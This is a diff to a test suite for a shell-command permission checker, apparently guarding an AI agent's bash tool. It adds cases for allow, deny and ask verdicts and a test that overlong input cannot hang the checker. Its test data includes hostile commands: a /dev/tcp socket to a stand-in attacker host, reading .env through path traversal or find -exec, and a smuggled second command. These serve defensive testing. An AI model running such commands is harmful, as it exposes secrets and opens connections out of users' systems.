@@ -159,6 +159,7 @@ describe("an allow rule lets through nothing more", () => {
     "exec 3<>/dev/tcp/evil.example/80; npm test",
     // Power or code from elsewhere.
     "sudo npm test",
+    "zsh -c 'npm test'",
     "timeout $T npm test",
     'bash -c "npm test; rm x"',
     'bash -c "$X"',
@@ -210,6 +211,10 @@ describe("an allow rule lets through nothing more", () => {
       ["cat docs/*", "cat docs/../.env", "ask"],
       ["cat docs/*", "cat docs/a.md .env", "ask"],
       ["x --file=*", "x --file=../../a", "ask"],
+      ["ls ab*ba", "ls abba", "allow"],
+      ["ls ab*ba", "ls aba", "ask"],
+      ["ls x*ab*b", "ls x-ab-b", "allow"],
+      ["ls x*ab*b", "ls xab", "ask"],
       ["sort *", "sort -uo x", "ask"],
       ["sort *", "sort -u x", "allow"],
       ["timeout 5 cat", "timeout 5 cat < .env", "ask"],
@@ -359,6 +364,7 @@ describe("a deny rule holds, however the command is written", () => {
     "'rm x",
     "rm\u200b x",
     "cat .e*",
+    "find . -name .env -exec cat {} +",
     "cat $F"
   ])("asks when it cannot tell: %j", async (command) => {
     expect(await verdict(generous, command)).toBe("ask")
@@ -519,6 +525,17 @@ describe("whatever the line", () => {
       { numRuns: 500 }
     )
   })
+})
+
+it("a line made to keep the check busy does not: it would never end", async () => {
+  const rules = ["execute_bash(a*b*c*d*e)", "execute_bash(git a b c)", "*(**/a*/**/b*/**/c)"]
+  for (const part of ["abcd", "abcd ", "a/", "-a b ", "git a ", "find -exec ", "env ", "[", "x=1;", "$((", "a='"]) {
+    for (const line of [`git ${part.repeat(2000)}`, `git "${part.repeat(2000)}"`, part.repeat(2000)]) {
+      expect(["allow", "ask", "deny"]).toContain(
+        await verdict({ mode: "auto", allow: rules, ask: rules, deny: rules }, line)
+      )
+    }
+  }
 })
 
 it("a line that nobody can read is asked", async () => {
